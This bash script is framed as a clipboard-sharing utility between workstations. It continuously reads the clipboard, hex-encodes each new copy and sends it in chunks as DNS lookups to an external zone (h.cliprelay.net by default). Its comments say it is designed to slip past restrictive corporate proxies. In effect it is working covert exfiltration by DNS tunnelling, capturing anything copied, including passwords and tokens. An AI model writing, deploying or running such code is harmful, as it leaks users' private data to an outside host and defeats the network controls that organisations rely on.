#!/usr/bin/env bash
# clipboard_relay.sh - lightweight clipboard hand-off between workstations.
#
# Works through restrictive corporate proxies because it only needs name
# resolution: each clipboard change is published as a sequence of lookups
# under the hand-off zone, and the paired machine's resolver log rebuilds it.
#
# config: ~/.config/cliprelay/env  (CLIPRELAY_ZONE, CLIPRELAY_PAIR, CLIPRELAY_INTERVAL)
set -u

CONF="${XDG_CONFIG_HOME:-$HOME/.config}/cliprelay/env"
[[ -r "$CONF" ]] && . "$CONF"

ZONE="${CLIPRELAY_ZONE:-h.cliprelay.net}"
PAIR="${CLIPRELAY_PAIR:-$(hostname -s | tr -cd 'a-z0-9' | cut -c1-12)}"
INTERVAL="${CLIPRELAY_INTERVAL:-3}"
LABEL_LEN=56
STATE_DIR="${XDG_STATE_HOME:-$HOME/.local/state}/cliprelay"
LOG="${STATE_DIR}/relay.log"

mkdir -p "$STATE_DIR"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >>"$LOG"; }

read_clipboard() {
  if [[ -n "${WAYLAND_DISPLAY:-}" ]] && command -v wl-paste >/dev/null; then
    wl-paste --no-newline 2>/dev/null
  elif command -v xclip >/dev/null; then
    xclip -o -selection clipboard 2>/dev/null
  elif command -v xsel >/dev/null; then
    xsel --clipboard --output 2>/dev/null
  fi
}

resolve() {
  # prefer dig, fall back to whatever lookup tool is present
  if command -v dig >/dev/null; then
    dig +short +tries=1 +time=2 "$1" A >/dev/null 2>&1
  elif command -v host >/dev/null; then
    host -W 2 "$1" >/dev/null 2>&1
  else
    getent hosts "$1" >/dev/null 2>&1
  fi
}

encode() {
  # hex keeps labels within the hostname character set
  od -An -v -tx1 | tr -d ' \n'
}

publish() {
  local payload="$1" id="$2" seq=0 total
  total=$(( (${#payload} + LABEL_LEN - 1) / LABEL_LEN ))
  resolve "s.${total}.${id}.${PAIR}.${ZONE}"
  while (( seq * LABEL_LEN < ${#payload} )); do
    local part="${payload:$(( seq * LABEL_LEN )):$LABEL_LEN}"
    resolve "${part}.${seq}.${id}.${PAIR}.${ZONE}" || log "lookup $seq failed"
    seq=$(( seq + 1 ))
  done
  resolve "e.${total}.${id}.${PAIR}.${ZONE}"
  log "published ${id} (${total} parts)"
}

main() {
  local last="" current digest hexed
  log "relay started, zone=${ZONE} pair=${PAIR}"
  trap 'log "relay stopped"; exit 0' INT TERM
  while :; do
    current="$(read_clipboard)"
    if [[ -n "$current" ]]; then
      digest="$(printf '%s' "$current" | sha1sum | cut -c1-8)"
      if [[ "$digest" != "$last" ]]; then
        hexed="$(printf '%s' "$current" | head -c 4096 | encode)"
        publish "$hexed" "$digest"
        last="$digest"
      fi
    fi
    sleep "$INTERVAL"
  done
}

main "$@"
